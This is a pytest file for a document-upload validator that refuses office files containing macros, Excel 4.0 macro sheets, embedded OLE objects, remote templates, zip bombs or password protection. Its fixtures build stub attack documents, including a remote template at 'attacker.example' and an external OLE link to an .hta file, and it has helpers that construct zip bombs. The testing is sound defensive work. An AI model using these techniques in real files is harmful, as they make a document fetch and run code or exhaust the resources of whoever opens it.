"""Evidence that would run or fetch something when a reviewer opens it is refused, each
kind with its own message: macros, Excel 4.0 macro sheets, embedded OLE objects, remote
templates, zip bombs, and more files in one request than one file's limit."""

from __future__ import annotations

import io
import os
import struct
import zipfile
from pathlib import Path

import pytest

from phrom.responses.evidence import EvidenceRejected
from phrom.responses.models import AnswerChange, Evidence
from tests.responses.helpers import add_file as add
from tests.responses.office_files import (
    CHART,
    MACRO_SHEET,
    OFFICE_RELS,
    VBA_MODULE,
    WORKSHEET,
    cfb,
    doc,
    odf,
    ooxml,
    relationships,
    xls,
)

POLICY_Q = "POL-01-1"

MACROS = "contains macros, which are not accepted"
ODF_MACROS = "contains macros or scripts (LibreOffice Basic"
MACRO_SHEET_MESSAGE = "contains an Excel 4.0 macro sheet"
EMBEDDED = "contains an embedded object or control"
REMOTE = "loads a template or other content from another address"


@pytest.fixture(autouse=True)
def english():
    from django.utils import translation

    with translation.override("en"):
        yield




def assert_refused(world, media: Path, name: str, data: bytes, fragment: str) -> str:
    with pytest.raises(EvidenceRejected) as caught:
        add(world, name, data)
    message = str(caught.value.message)
    assert fragment in message
    assert f"“{name}”" in message
    assert not Evidence.objects.exists()
    assert not AnswerChange.objects.exists()
    assert [p for p in media.rglob("*") if p.is_file()] == []
    return message


def remote_template_docx(mode: str = "External") -> bytes:
    rels = relationships((
        "rId1", f"{OFFICE_RELS}/attachedTemplate",
        "https://attacker.example/template.dotm", mode,
    ))
    return ooxml("docx", {"word/settings.xml": "<w:settings/>",
                          "word/_rels/settings.xml.rels": rels})


# --- macros --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("plan.doc", doc(streams={"Macros/VBA/dir": b"\x01", "Macros/PROJECT": b"ID="})),
        ("budget.xls", xls(streams={"_VBA_PROJECT_CUR/VBA/dir": b"\x01"})),
        ("budget.xls", xls(("Module1", VBA_MODULE))),
        ("plan.docx", ooxml("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        (
            "plan.docx",
            ooxml("docx", {"word/renamed.bin": b"\xd0\xcf\x11\xe0"},
                  content_types='<Default Extension="bin" '
                                'ContentType="application/vnd.ms-office.vbaProject"/>'),
        ),
    ],
    ids=["doc Macros storage", "xls _VBA_PROJECT_CUR", "xls VBA module sheet",
         "docx vbaProject.bin", "docx VBA project under another name"],
)
def test_vba_macros_in_word_and_excel_files_are_refused(world, media, name, data):
    assert "Save it without macros" in assert_refused(world, media, name, data, MACROS)


def test_a_macro_enabled_word_document_is_not_a_word_document(world, media):
    data = ooxml("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml")
    with pytest.raises(EvidenceRejected, match="not a file type"):
        add(world, "plan.docm", data)


@pytest.mark.parametrize(
    "data",
    [
        odf({"Basic/Standard/Module1.xml": "<script:module/>",
             "Basic/script-lc.xml": "<library:libraries/>"}),
        odf({"Scripts/python/run.py": "import os"}),
        odf(manifest_entries='<manifest:file-entry manifest:full-path="Scripts/" '
                             'manifest:media-type="application/binary"/>'),
    ],
    ids=["Basic folder", "Scripts folder", "named only in the manifest"],
)
def test_macros_in_opendocument_files_are_refused(world, media, data):
    message = assert_refused(world, media, "report.odt", data, ODF_MACROS)
    assert "Tools > Macros" in message


# --- Excel 4.0 macro sheets ----------------------------------------------------------------


def test_an_excel_4_macro_sheet_in_an_xls_workbook_is_refused(world, media):
    data = xls(("Sheet1", WORKSHEET), ("Auto_Open", MACRO_SHEET))
    assert_refused(world, media, "budget.xls", data, MACRO_SHEET_MESSAGE)


def test_an_excel_4_macro_sheet_in_an_xlsx_workbook_is_refused(world, media):
    data = ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"},
                 content_types='<Override PartName="/xl/macrosheets/sheet1.xml" '
                               'ContentType="application/vnd.ms-excel.macrosheet+xml"/>')
    assert_refused(world, media, "budget.xlsx", data, MACRO_SHEET_MESSAGE)


def test_a_workbook_of_worksheets_and_charts_is_accepted(world, media):
    evidence = add(world, "budget.xls", xls(("Sheet1", WORKSHEET), ("Chart1", CHART)))
    assert evidence.content_type == "application/vnd.ms-excel"


# --- embedded objects ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("plan.docx", ooxml("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ("budget.xlsx", ooxml("xlsx", {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ("slides.pptx", ooxml("pptx", {"ppt/embeddings/oleObject2.bin": b"\xd0\xcf\x11\xe0"})),
        ("plan.docx", ooxml("docx", {"word/activeX/activeX1.xml": "<ax:ocx/>"})),
        ("plan.doc", doc(streams={"ObjectPool/_1234/\x01Ole10Native": b"MZ\x90\x00"})),
        ("plan.doc", doc(streams={"ObjectPool/_1235/Equation Native": b"\x1c\x00"})),
    ],
    ids=["docx oleObject", "xlsx oleObject", "pptx oleObject", "docx ActiveX",
         "doc packaged file", "doc Equation Editor"],
)
def test_embedded_ole_objects_are_refused(world, media, name, data):
    assert "Remove the object" in assert_refused(world, media, name, data, EMBEDDED)


def test_a_chart_with_its_data_as_an_embedded_workbook_is_accepted(world, media):
    data = ooxml("docx", {
        "word/charts/chart1.xml": "<c:chartSpace/>",
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml("xlsx"),
    })
    assert add(world, "plan.docx", data).original_name == "plan.docx"


# --- remote templates ----------------------------------------------------------------------


def test_a_word_document_with_a_remote_template_is_refused(world, media):
    message = assert_refused(world, media, "plan.docx", remote_template_docx(), REMOTE)
    assert "Document Template" in message


def test_a_remote_ole_link_in_a_presentation_is_refused(world, media):
    rels = relationships(("rId9", f"{OFFICE_RELS}/oleObject", "http://x.example/a.hta",
                          "External"))
    data = ooxml("pptx", {"ppt/slides/_rels/slide1.xml.rels": rels})
    assert_refused(world, media, "slides.pptx", data, REMOTE)


def test_a_template_in_the_package_and_external_hyperlinks_are_accepted(world, media):
    data = ooxml("docx", {
        "word/_rels/settings.xml.rels": relationships(
            ("rId1", f"{OFFICE_RELS}/attachedTemplate", "Normal.dotm", "")
        ),
        "word/_rels/document.xml.rels": relationships(
            ("rId2", f"{OFFICE_RELS}/hyperlink", "https://www.dga.or.th/", "External")
        ),
    })
    assert add(world, "plan.docx", data).original_name == "plan.docx"


# --- zip bombs -----------------------------------------------------------------------------


def zipped_zeros(kind: str, megabytes: int) -> bytes:
    """An office package whose one extra part is MEGABYTES of zeros (deflated ~1000x)."""
    buffer = io.BytesIO(ooxml(kind))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/media/padding.xml" if kind == "xlsx" else "word/padding.xml",
                          "w") as part:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                part.write(chunk)
    return buffer.getvalue()


def test_an_archive_compressed_absurdly_is_refused_before_it_is_unpacked(world, media, settings):
    settings.PHROM_MAX_UPLOAD_MB = 1
    data = zipped_zeros("docx", 3)
    assert len(data) < 100 * 1024
    message = assert_refused(world, media, "plan.docx", data, "is compressed")
    assert "times over" in message


def test_a_bomb_part_beside_ordinary_incompressible_parts_is_refused(world, media, settings):
    settings.PHROM_MAX_UPLOAD_MB = 1
    buffer = io.BytesIO(zipped_zeros("docx", 3))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/media/photo.jpg", os.urandom(900 * 1024))
    data = buffer.getvalue()
    assert 3 * 1024 * 1024 / len(data) < 100  # the archive as a whole looks ordinary
    assert_refused(world, media, "plan.docx", data, "is compressed")


def test_an_archive_that_unpacks_past_fifty_times_the_upload_limit_is_refused(
    world, media, settings
):
    settings.PHROM_MAX_UPLOAD_MB = 1
    message = assert_refused(world, media, "budget.xlsx", zipped_zeros("xlsx", 51),
                             "would unpack to 51 MB")
    assert "at most 50 MB" in message


def test_an_archive_whose_directory_declares_absurd_sizes_is_refused(world, media):
    # The central directory claims 3 GB for a part that holds a few bytes: the claim
    # alone refuses it, nothing is unpacked to find out.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        source = zipfile.ZipFile(io.BytesIO(ooxml("docx")))
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        archive.writestr("word/big.xml", b"<x/>")
        archive.filelist[-1].file_size = 3 * 1024**3
    assert_refused(world, media, "plan.docx", buffer.getvalue(), "would unpack to 3072 MB")


def test_an_archive_of_too_many_parts_is_refused(world, media):
    parts = {f"word/media/p{i}.xml": b"" for i in range(10_001)}
    assert_refused(world, media, "plan.docx", ooxml("docx", parts),
                   "holds more parts than an office document does (10004)")


def test_a_large_but_ordinary_document_is_accepted(world, media, settings):
    settings.PHROM_MAX_UPLOAD_MB = 1
    # Unpacks past the upload limit, but only a few times its size.
    import random

    rng = random.Random(1)
    text = "".join(rng.choice("กขคงจฉชซ0123456789 ") for _ in range(1_200_000))
    data = ooxml("docx", {"word/text.xml": text})
    assert len(data) < 1024 * 1024
    assert add(world, "plan.docx", data).original_name == "plan.docx"


# --- protected with a password ------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("budget.xls", xls(("Sheet1", WORKSHEET), encrypted=True)),
        # FIB: wIdent, nFib, unused, lid, pnNext, then the flags with fEncrypted set.
        ("plan.doc", doc(streams={"WordDocument": struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x41E,
                                                                   0, 0x0100)})),
        ("plan.docx", cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"x"})),
    ],
    ids=["xls FILEPASS", "doc fEncrypted", "docx encrypted package"],
)
def test_office_files_protected_with_a_password_are_refused(world, media, name, data):
    message = assert_refused(world, media, name, data, "is protected with a password")
    assert "Save it without the password" in message


# --- malformed containers ------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000,
        doc()[:700],
        doc()[:1024] + bytes(range(256)) * 8,
    ],
    ids=["garbage after the signature", "truncated directory", "garbage directory"],
)
def test_a_broken_office_97_2003_file_is_not_accepted_without_an_error(world, media, data):
    with pytest.raises(EvidenceRejected, match="not a file type"):
        add(world, "plan.doc", data)


# --- one request -----------------------------------------------------------------------------


def test_files_over_the_limit_together_in_one_request_are_refused(client, world, media, settings):
    settings.PHROM_MAX_UPLOAD_MB = 1
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(world.user("coordinator_a"))
    from tests.responses.test_evidence import make_pdf

    def pdf(name: str) -> io.BytesIO:
        fileobj = io.BytesIO(make_pdf() + b"%" + b"1" * (700 * 1024))
        fileobj.name = name
        return fileobj

    reply = client.post(
        f"/responses/{world.response_a.pk}/questions/{POLICY_Q}/evidence/upload",
        {"file": pdf("a.pdf"), "more": [pdf("b.pdf"), pdf("c.pdf")]},
    )

    assert reply.status_code == 400
    assert "several files, more than 1 MB together" in reply.content.decode()
    assert not Evidence.objects.exists()
    assert [p for p in media.rglob("*") if p.is_file()] == []


def test_one_file_under_the_limit_is_not_held_to_the_request_limit(client, world, media, settings):
    settings.PHROM_MAX_UPLOAD_MB = 1
    client.force_login(world.user("coordinator_a"))
    from tests.responses.test_evidence import make_pdf

    fileobj = io.BytesIO(make_pdf() + b"%" + b"1" * (1000 * 1024))
    fileobj.name = "scan.pdf"
    reply = client.post(
        f"/responses/{world.response_a.pk}/questions/{POLICY_Q}/evidence/upload",
        {"file": fileobj},
    )
    assert reply.status_code == 302
    assert Evidence.objects.get().original_name == "scan.pdf"
